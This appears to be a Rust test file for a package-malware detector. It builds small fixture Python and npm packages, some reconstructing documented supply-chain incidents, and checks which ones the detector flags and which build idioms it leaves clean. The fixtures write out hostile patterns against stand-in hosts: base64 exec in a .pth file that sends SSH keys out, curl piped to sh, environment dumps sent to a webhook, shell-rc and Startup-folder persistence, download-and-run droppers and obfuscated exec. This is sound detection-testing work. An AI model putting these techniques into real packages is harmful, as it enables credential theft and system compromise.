//! The verdict on small packages of our own making, one per behaviour class the detection
//! must catch and per build idiom it must leave alone. Packages marked "reconstruction"
//! rebuild the shape of a documented incident from its public write-ups; no real sample is
//! used. Every host is under `.example.invalid`, which never resolves.

mod common;

use common::{PKG_INFO, assert_level, b64, rules, setup_py, verdict};
use tollgate_analysis::{CodePhase, VerdictLevel};

#[test]
fn pth_file_that_execs_base64_at_every_start_is_malicious() {
    // Reconstruction: litellm 1.82.8 (March 2026) shipped a `.pth` file in its wheel whose
    // one line exec'd a base64 payload at every interpreter start.
    let payload = b64(
        "import os, urllib.request\nurllib.request.urlopen('https://c2.example.invalid/k', \
         data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n",
    );
    let pth = format!("import base64; exec(base64.b64decode('{payload}'))\n");
    let verdict = assert_level(
        &[
            (
                "fixture-1.0.dist-info/METADATA",
                "Metadata-Version: 2.1\nName: fixture\nVersion: 1.0\n",
            ),
            ("fixture-1.0.dist-info/RECORD", "fixture_init.pth,,\n"),
            ("fixture-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n"),
            ("fixture_init.pth", &pth),
            ("fixture/__init__.py", "\n"),
        ],
        VerdictLevel::Malicious,
    );
    assert_eq!(verdict.reasons[0].file, "fixture_init.pth");
    assert_eq!(verdict.reasons[0].phase, CodePhase::Startup);
}

#[test]
fn obfuscated_setup_py_that_pip_installs_a_second_stage_is_flagged() {
    // Reconstruction of a common PyPI campaign shape: builtins reached through getattr with
    // a name built from characters, then `pip.main` of a second package.
    let setup = "from setuptools import setup\n\
        _b = getattr(__builtins__, ''.join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95])))\n\
        _p = _b('pip')\n\
        _p.main(['install', '--quiet', 'https://files.example.invalid/stage2.tar.gz'])\n\
        setup(name='fixture', version='1.0')\n";
    let verdict = verdict(&[PKG_INFO, ("setup.py", setup)]);
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
    assert!(
        verdict
            .reasons
            .iter()
            .any(|r| r.file == "setup.py" && r.line == 4),
        "the pip.main line is a reason: {verdict:#?}"
    );
}

#[test]
fn exec_reached_through_vars_builtins_is_malicious() {
    let payload = b64("import os\nos.system('curl -s https://c2.example.invalid/i | sh')\n");
    let setup = format!(
        "import base64\nfrom setuptools import setup\n\
         vars(__builtins__)['exec'](base64.b64decode('{payload}'))\n\
         setup(name='fixture', version='1.0')\n"
    );
    let verdict = assert_level(&[PKG_INFO, ("setup.py", &setup)], VerdictLevel::Malicious);
    assert_eq!(verdict.reasons[0].line, 3, "{verdict:#?}");
}

#[test]
fn stealer_in_a_module_imported_through_star_import_is_malicious_at_import() {
    // Reconstruction: payloads kept out of setup.py, in a private module the package's
    // `__init__` star-imports, sending the environment to a webhook when first imported.
    let verdict = assert_level(
        &[
            PKG_INFO,
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='fixture', version='1.0', packages=['fixture'])\n",
            ),
            ("fixture/__init__.py", "from fixture._impl import *\n"),
            (
                "fixture/_impl.py",
                "import os, json, urllib.request\n\
                 _data = json.dumps(dict(os.environ)).encode()\n\
                 urllib.request.urlopen('https://discord.com/api/webhooks/1/abc', data=_data)\n",
            ),
        ],
        VerdictLevel::Malicious,
    );
    assert!(
        verdict
            .reasons
            .iter()
            .any(|r| r.file == "fixture/_impl.py" && r.phase == CodePhase::Import),
        "{verdict:#?}"
    );
}

#[test]
fn clipboard_and_screenshot_sent_out_are_flagged() {
    let verdict = verdict(&[
        PKG_INFO,
        (
            "setup.py",
            "from setuptools import setup\nsetup(name='fixture', version='1.0', packages=['fixture'])\n",
        ),
        (
            "fixture/__init__.py",
            "import pyperclip, requests\nfrom PIL import ImageGrab\n\
             ImageGrab.grab().save('/tmp/s.png')\n\
             requests.post('https://hook.example.invalid/u', data={'c': pyperclip.paste()}, \
             files={'s': open('/tmp/s.png', 'rb')})\n",
        ),
    ]);
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
    assert!(
        verdict.reasons.iter().any(|r| r.rule == "surveillance"),
        "{verdict:#?}"
    );
}

#[test]
fn install_override_that_downloads_and_runs_is_malicious() {
    let setup = "import subprocess, urllib.request\n\
        from setuptools import setup\nfrom setuptools.command.install import install\n\
        class PostInstall(install):\n    def run(self):\n        install.run(self)\n        \
        urllib.request.urlretrieve('https://files.example.invalid/u.bin', '/tmp/u.bin')\n        \
        subprocess.Popen(['/tmp/u.bin'])\n\
        setup(name='fixture', version='1.0', cmdclass={'install': PostInstall})\n";
    let verdict = assert_level(&[PKG_INFO, ("setup.py", setup)], VerdictLevel::Malicious);
    assert!(
        verdict
            .reasons
            .iter()
            .all(|r| r.phase == CodePhase::Install),
        "{verdict:#?}"
    );
}

#[test]
fn persistence_in_a_shell_rc_at_install_is_flagged() {
    let setup = "import os\nfrom setuptools import setup\n\
        with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    \
        rc.write('curl -s https://c2.example.invalid/p | sh\\n')\n\
        setup(name='fixture', version='1.0')\n";
    let verdict = verdict(&[PKG_INFO, ("setup.py", setup)]);
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn binding_gyp_command_expansion_that_pipes_to_a_shell_is_malicious() {
    // Reconstruction: npm packages with no install script whose binding.gyp makes npm run
    // node-gyp, and whose `<!(...)` expansion runs a downloaded script.
    let verdict = verdict(&[
        (
            "package.json",
            "{\"name\":\"fixture\",\"version\":\"1.0.0\"}",
        ),
        (
            "binding.gyp",
            "{\"targets\":[{\"target_name\":\"x\",\"sources\":[\"<!(curl -s https://c2.example.invalid/g | sh)\"]}]}",
        ),
    ]);
    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
}

#[test]
fn version_file_exec_in_setup_py_is_clean() {
    let setup = "import os\nfrom setuptools import setup\n\
        about = {}\nhere = os.path.dirname(__file__)\n\
        with open(os.path.join(here, 'fixture', '__version__.py')) as f:\n    exec(f.read(), about)\n\
        exec(open('fixture/version.py').read())\n\
        setup(name='fixture', version=about['__version__'])\n";
    assert_level(
        &[
            PKG_INFO,
            ("setup.py", setup),
            ("fixture/__version__.py", "__version__ = '1.0'\n"),
            ("fixture/version.py", "VERSION = '1.0'\n"),
        ],
        VerdictLevel::Clean,
    );
}

#[test]
fn prebuilt_binary_download_then_a_program_run_is_clean() {
    // The shape of packages that fetch their own release binary at install and then run a
    // tool (tar, the binary's --version): a download and a program run are not an attack.
    let setup = "import subprocess, urllib.request\nfrom setuptools import setup\n\
        VERSION = '1.0'\n\
        url = f'https://github.com/fixture/fixture/releases/download/v{VERSION}/fixture-linux.tar.gz'\n\
        urllib.request.urlretrieve(url, 'build/fixture.tar.gz')\n\
        subprocess.check_call(['tar', 'xzf', 'build/fixture.tar.gz', '-C', 'build'])\n\
        setup(name='fixture', version=VERSION)\n";
    let verdict = verdict(&[PKG_INFO, ("setup.py", setup)]);
    assert!(verdict.level <= VerdictLevel::Suspicious, "{verdict:#?}");
    assert_ne!(verdict.level, VerdictLevel::Malicious);
}

#[test]
fn node_pre_gyp_and_compilers_in_npm_install_scripts_are_clean() {
    assert_level(
        &[(
            "package.json",
            "{\"name\":\"fixture\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node-pre-gyp install --fallback-to-build\"},\"binary\":{\"module_name\":\"fixture\",\"host\":\"https://github.com/fixture/fixture/releases/download/\"}}",
        )],
        VerdictLevel::Clean,
    );
}

#[test]
fn cmake_build_ext_override_is_clean() {
    let setup = "import subprocess\nfrom setuptools import setup, Extension\n\
        from setuptools.command.build_ext import build_ext\n\
        class CMakeBuild(build_ext):\n    def run(self):\n        \
        subprocess.check_call(['cmake', '-S', '.', '-B', 'build'])\n        \
        subprocess.check_call(['cmake', '--build', 'build'])\n\
        setup(name='fixture', version='1.0', ext_modules=[Extension('fixture', [])], \
        cmdclass={'build_ext': CMakeBuild})\n";
    assert_level(&[PKG_INFO, ("setup.py", setup)], VerdictLevel::Clean);
}

#[test]
fn module_of_a_namespace_package_is_judged_as_import_time_code() {
    // A folder without `__init__.py` is still importable in Python 3 (a namespace
    // package); the payload sits in a console-script module there.
    let verdict = assert_level(
        &[
            PKG_INFO,
            ("fixture.egg-info/top_level.txt", "fixture_ns\n"),
            (
                "src/fixture_ns/core.py",
                "import base64, requests\n\
                 def run():\n    \
                     r = requests.get('https://c2.example.invalid/s')\n    \
                     exec(base64.b64decode(r.json()['message']))\n",
            ),
        ],
        VerdictLevel::Malicious,
    );
    assert_eq!(verdict.reasons[0].file, "src/fixture_ns/core.py");
}

#[test]
fn function_of_another_module_called_at_import_counts_as_running() {
    // `__init__` imports a helper from a sibling module and calls it at module level: the
    // helper's download and program run happen at `import fixture`.
    let verdict = assert_level(
        &[
            PKG_INFO,
            (
                "fixture/__init__.py",
                "from .loader import fetch_and_start\nfetch_and_start()\n",
            ),
            (
                "fixture/loader.py",
                "import os, subprocess, requests\n\
                 def save(url, path):\n    \
                     with open(path, 'wb') as f:\n        \
                         f.write(requests.get(url).content)\n\
                 def start(path):\n    \
                     subprocess.run([path], check=True)\n\
                 def fetch_and_start():\n    \
                     path = os.path.join(os.getenv('APPDATA') or '.', 'x.exe')\n    \
                     save('https://cdn.example.invalid/x.exe', path)\n    \
                     start(path)\n",
            ),
        ],
        VerdictLevel::Malicious,
    );
    assert!(
        verdict
            .reasons
            .iter()
            .any(|r| r.file == "fixture/loader.py" && r.phase == CodePhase::Import),
        "{verdict:#?}"
    );
}

#[test]
fn helper_of_another_module_only_defined_stays_passive() {
    // The same helper, imported but never called at module level: a library function.
    let verdict = verdict(&[
        PKG_INFO,
        (
            "fixture/__init__.py",
            "from .loader import fetch_and_start\n",
        ),
        (
            "fixture/loader.py",
            "import subprocess, requests\n\
             def fetch_and_start(url, path):\n    \
                 open(path, 'wb').write(requests.get(url).content)\n    \
                 subprocess.run([path])\n",
        ),
    ]);
    assert_ne!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
}

#[test]
fn replaced_install_command_that_runs_a_program_is_malicious() {
    // The shape of many proof-of-concept and dropper uploads: `cmdclass` replaces
    // `install`, and its `run` starts a program that is no build tool.
    assert_level(
        &[
            PKG_INFO,
            (
                "setup.py",
                "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
                 class Post(install):\n    def run(self):\n        install.run(self)\n        \
                 os.system('start payload.exe')\n\
                 setup(name='fixture', version='1.0', cmdclass={'install': Post})\n",
            ),
        ],
        VerdictLevel::Malicious,
    );
}

#[test]
fn replaced_install_command_that_runs_make_is_not_malicious() {
    // Older scientific packages replace `install` to run make first: a build.
    let verdict = verdict(&[
        PKG_INFO,
        (
            "setup.py",
            "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
             class Build(install):\n    def run(self):\n        subprocess.check_call(['make', '-C', 'src'])\n        \
             install.run(self)\n\
             setup(name='fixture', version='1.0', cmdclass={'install': Build})\n",
        ),
    ]);
    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
}

#[test]
fn download_written_in_chunks_then_started_is_malicious() {
    // `for chunk in r.iter_content(): f.write(chunk)` carries the download into the file
    // that is started next, even in a function nothing calls yet.
    assert_level(
        &[
            PKG_INFO,
            ("fixture/__init__.py", "\n"),
            (
                "fixture/update.py",
                "import subprocess, requests\n\
                 def update():\n    \
                     r = requests.get('http://cdn.example.invalid/u.exe', stream=True)\n    \
                     with open('u.exe', 'wb') as f:\n        \
                         for chunk in r.iter_content(chunk_size=8192):\n            \
                             f.write(chunk)\n    \
                     subprocess.Popen(['u.exe'])\n",
            ),
        ],
        VerdictLevel::Malicious,
    );
}

#[test]
fn recon_command_line_run_from_setup_py_is_flagged() {
    // A shell one-liner handed to `os.system` is read as shell: the download tool and the
    // host identity in its URL count, not just "runs a program".
    let verdict = verdict(&[
        PKG_INFO,
        (
            "setup.py",
            "import os\nfrom setuptools import setup\n\
             os.system('curl https://hooks.example.invalid/x?u=$(whoami)')\n\
             setup(name='fixture', version='1.0')\n",
        ),
    ]);
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
    assert!(
        verdict.reasons.iter().any(|r| r.rule == "host-recon"),
        "{verdict:#?}"
    );
}

#[test]
fn setup_py_that_contacts_the_network_at_module_level_is_flagged() {
    // The beacon shape: the script's own top level calls home as pip builds it.
    let verdict = setup_py(
        "import urllib.request\nfrom setuptools import setup\n\
         urllib.request.urlopen('https://beacon.example.invalid/ping')\n\
         setup(name='fixture', version='1.0')\n",
    );
    assert!(rules(&verdict).contains(&"setup-network"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn setup_py_that_fetches_from_a_command_class_has_no_setup_network() {
    // A build that downloads its sources from `build_ext.run`: network from a command
    // class, not from the script's top level.
    let verdict = setup_py(
        "import urllib.request\nfrom setuptools import setup\n\
         from setuptools.command.build_ext import build_ext\n\
         class Fetch(build_ext):\n    def run(self):\n        \
         urllib.request.urlretrieve('https://github.com/fixture/lib/archive/v1.tar.gz', 'lib.tgz')\n        \
         build_ext.run(self)\n\
         setup(name='fixture', version='1.0', cmdclass={'build_ext': Fetch})\n",
    );
    assert!(!rules(&verdict).contains(&"setup-network"), "{verdict:#?}");
    assert_ne!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
}

#[test]
fn curl_output_executed_is_a_download_run() {
    // `subprocess.check_output(['curl', ...])` yields downloaded bytes; exec'ing them is
    // running a download.
    let verdict = setup_py(
        "import subprocess\nfrom setuptools import setup\n\
         code = subprocess.check_output(['curl', '-s', 'https://c2.example.invalid/p.py'])\n\
         exec(code)\n\
         setup(name='fixture', version='1.0')\n",
    );
    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
}

#[test]
fn curl_sending_whoami_is_exfiltration() {
    let verdict = setup_py(
        "import os\nfrom setuptools import setup\n\
         os.system('curl -s https://hooks.example.invalid/?u=$(whoami)&h=$(hostname)')\n\
         setup(name='fixture', version='1.0')\n",
    );
    assert!(rules(&verdict).contains(&"exfiltration"), "{verdict:#?}");
}

#[test]
fn uname_in_a_download_line_is_not_exfiltration() {
    // Installers pick the platform's binary with `uname`; that is not host data leaving.
    let verdict = setup_py(
        "import os\nfrom setuptools import setup\n\
         os.system('curl -fsSL https://github.com/fixture/fixture/releases/download/v1/fixture-$(uname -m) -o build/fixture')\n\
         setup(name='fixture', version='1.0')\n",
    );
    assert!(!rules(&verdict).contains(&"exfiltration"), "{verdict:#?}");
}

#[test]
fn host_data_sent_on_a_socket_is_exfiltration() {
    // A raw socket opened once and used later: `s.sendall(...)` is a network send.
    let verdict = setup_py(
        "import socket, getpass\nfrom setuptools import setup\n\
         s = socket.create_connection(('c2.example.invalid', 4444))\n\
         user = getpass.getuser()\n\
         s.sendall(user.encode())\n\
         setup(name='fixture', version='1.0')\n",
    );
    assert!(rules(&verdict).contains(&"exfiltration"), "{verdict:#?}");
}

#[test]
fn persistence_path_built_at_run_time_is_found() {
    // The shell rc path assembled from pieces, never a literal in the source.
    let verdict = setup_py(
        "import os\nfrom setuptools import setup\n\
         home = os.path.expanduser('~')\n\
         rc = home + '/.ba' + 'shrc'\n\
         with open(rc, 'a') as f:\n    f.write('curl -s https://c2.example.invalid/x | sh\\n')\n\
         setup(name='fixture', version='1.0')\n",
    );
    assert!(rules(&verdict).contains(&"persistence"), "{verdict:#?}");
}

#[test]
fn class_body_runs_when_the_module_is_imported() {
    // Reconstruction of a common dropper shape: the download-and-start line sits in a
    // class body (outside any method), which Python runs when the class is defined.
    let verdict = assert_level(
        &[
            PKG_INFO,
            ("fixture/__init__.py", "from .core import fixture\n"),
            (
                "fixture/core.py",
                "import os\nclass fixture:\n    try:\n        \
                 os.system('curl -s https://cdn.example.invalid/a.exe -o a.exe && a.exe')\n    \
                 except Exception:\n        pass\n",
            ),
        ],
        VerdictLevel::Malicious,
    );
    assert!(
        verdict
            .reasons
            .iter()
            .any(|r| r.rule == "download-run" && r.phase == CodePhase::Import),
        "{verdict:#?}"
    );
}

#[test]
fn keyword_tables_in_a_class_body_are_data() {
    // A syntax highlighter's lexer keeps keyword lists and token tables (built with calls
    // like `bygroups(...)`) as class attributes: words such as `@sw_hide` there are data.
    let verdict = verdict(&[
        PKG_INFO,
        ("fixture/__init__.py", "from .lexer import FixtureLexer\n"),
        (
            "fixture/lexer.py",
            "def bygroups(*a):\n    return a\n\
             class FixtureLexer:\n    \
             macros = '@sw_hide @sw_show @sw_minimize @username @computername'\n    \
             tokens = {'root': [(r'\\s+', bygroups('Text'))]}\n",
        ),
    ]);
    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
}

#[test]
fn code_examples_in_docstrings_are_not_payloads() {
    // A docstring showing how to use a network API is documentation, not code that runs.
    let verdict = verdict(&[
        PKG_INFO,
        ("fixture/__init__.py", "from .adapter import Adapter\n"),
        (
            "fixture/adapter.py",
            "class Adapter:\n    \"\"\"\n    Example::\n\n        import requests\n        \
             s = requests.Session()\n        s.mount('https://198.51.100.7', Adapter())\n    \"\"\"\n",
        ),
    ]);
    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
}

#[test]
fn helper_that_saves_a_download_then_a_helper_that_starts_it_is_malicious() {
    // The download lands at the path the caller hands to `download`, and the same
    // variable goes to `launch`: the two nested helpers together run a download.
    let verdict = assert_level(
        &[
            PKG_INFO,
            (
                "fixture/__init__.py",
                "import os, requests\n\
                 def update():\n    \
                     def download(url, path):\n        \
                         r = requests.get(url)\n        \
                         with open(path, 'wb') as f:\n            \
                             f.write(r.content)\n    \
                     def launch(path):\n        \
                         os.startfile(path)\n    \
                     target = os.path.join(os.getenv('TEMP', '.'), 'u.exe')\n    \
                     download('http://cdn.example.invalid/u.exe', path=target)\n    \
                     launch(target)\n",
            ),
        ],
        VerdictLevel::Malicious,
    );
    assert!(rules(&verdict).contains(&"download-run"), "{verdict:#?}");
}

#[test]
fn helper_that_saves_a_download_then_unpacks_it_is_not_a_download_run() {
    // A prebuilt archive fetched by a helper and unpacked with tar is how builds get
    // their binaries.
    let verdict = verdict(&[
        PKG_INFO,
        (
            "fixture/__init__.py",
            "import subprocess, urllib.request\n\
             def fetch(url, dest):\n    \
                 urllib.request.urlretrieve(url, dest)\n\
             def prepare():\n    \
                 archive = 'build/lib.tar.gz'\n    \
                 fetch('https://github.com/fixture/lib/releases/download/v1/lib.tar.gz', archive)\n    \
                 subprocess.check_call(['tar', 'xzf', archive, '-C', 'build'])\n",
        ),
    ]);
    assert!(!rules(&verdict).contains(&"download-run"), "{verdict:#?}");
}

#[test]
fn exec_written_in_look_alike_letters_is_still_exec() {
    // Python reads identifiers in NFKC form: `ℯ𝓍ℯ𝒸` is `exec`. Reconstruction of an
    // install-command override that decrypts an embedded blob and runs it that way.
    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\n\
        from Crypto.Cipher import AES\n\
        class Post(install):\n    def run(self):\n        install.run(self)\n        \
        cipher = AES.new(b'0123456789abcdef', AES.MODE_GCM, nonce=b'01234567')\n        \
        plaintext = cipher.decrypt_and_verify(b'\\x01\\x02', b'\\x03')\n        \
        \u{212f}\u{1d4cd}\u{212f}\u{1d4b8}(plaintext)\n\
        setup(name='fixture', version='1.0', cmdclass={'install': Post})\n";
    let verdict = assert_level(&[PKG_INFO, ("setup.py", setup)], VerdictLevel::Malicious);
    assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
    assert!(rules(&verdict).contains(&"obfuscation"), "{verdict:#?}");
}

#[test]
fn network_call_to_a_decoded_address_is_a_hidden_endpoint() {
    let verdict = setup_py(
        "import base64, requests\nfrom setuptools import setup\n\
         hook = base64.b64decode('aHR0cHM6Ly9ob29rcy5leGFtcGxlLmludmFsaWQveA==').decode()\n\
         requests.post(hook, json={'content': 'installed'})\n\
         setup(name='fixture', version='1.0')\n",
    );
    assert!(rules(&verdict).contains(&"hidden-endpoint"), "{verdict:#?}");
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
}

#[test]
fn decoded_script_written_then_started_is_malicious() {
    // A PowerShell script kept in base64, written to a temporary file and started hidden.
    let script = b64(
        "Start-Process calc.exe -WindowStyle Hidden; Invoke-WebRequest https://c2.example.invalid/a -OutFile a.exe",
    );
    let module = format!(
        "import subprocess, base64, os\n\
         def lotus():\n    \
             c = base64.b64decode('{script}').decode()\n    \
             f = os.path.join(os.environ['TEMP'], 't.ps1')\n    \
             open(f, 'w').write(c)\n    \
             subprocess.Popen(['powershell', '-W', 'Hidden', '-F', f])\n"
    );
    let verdict = assert_level(
        &[
            PKG_INFO,
            ("fixture/__init__.py", "\n"),
            ("fixture/run.py", &module),
        ],
        VerdictLevel::Malicious,
    );
    assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
}

#[test]
fn command_joined_from_a_list_of_pieces_is_read_as_one_command_line() {
    // The command line is split into meaningless pieces that only `''.join` puts together.
    let module = "import subprocess\n\
        parts = ['power', 'shell -NoP -W Hid', 'den -C \"Invoke-WebRequest ', \
        'https://c2.example.invalid/l.bat -OutFile l.bat; Start-Process l.bat\"']\n\
        cmd = ''.join(parts)\n\
        subprocess.run(cmd, shell=True)\n";
    let verdict = verdict(&[PKG_INFO, ("fixture/__init__.py", module)]);
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
    assert!(
        verdict.reasons.iter().any(|r| r.why.contains("powershell")),
        "{verdict:#?}"
    );
}

#[test]
fn builtin_reached_by_a_computed_name_with_decoded_code_is_exec_decoded() {
    // `getattr(builtins, name)(...)` where the name is computed: judged as exec.
    let module = format!(
        "import builtins, base64, sys\n\
         name = ''.join(reversed(sys.argv[0][:4]))\n\
         getattr(builtins, name)(base64.b64decode('{}').decode())\n",
        b64("import os\nos.system('id')\n")
    );
    let verdict = verdict(&[PKG_INFO, ("fixture/__init__.py", &module)]);
    assert!(rules(&verdict).contains(&"exec-decoded"), "{verdict:#?}");
}

#[test]
fn code_kept_as_text_that_unpickles_compressed_data_is_analysed() {
    // Reconstruction of a dropper shape: a second script kept as a plain string (no
    // exec in it, only `pickle.loads` of compressed bytes) written where Windows starts
    // it at every logon.
    // The compressed bytes are random-looking filler: only their shape matters.
    let blob: String = (0..160u32)
        .map(|i| format!("\\\\x{:02x}", (i * 73 + 11) % 256))
        .collect();
    let verdict = setup_py(&format!(
        "import os\nfrom setuptools import setup\n\
         STAGE = \"import pickle, zlib\\npickle.loads(zlib.decompress(b'{blob}'))\\n\"\n\
         path = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Windows', 'Start Menu', \
         'Programs', 'Startup', 'u.pyw')\n\
         open(path, 'w').write(STAGE)\n\
         setup(name='fixture', version='1.0')\n",
    ));
    assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
    assert!(
        verdict.reasons.iter().any(|r| r.why.contains("pickle")),
        "{verdict:#?}"
    );
}
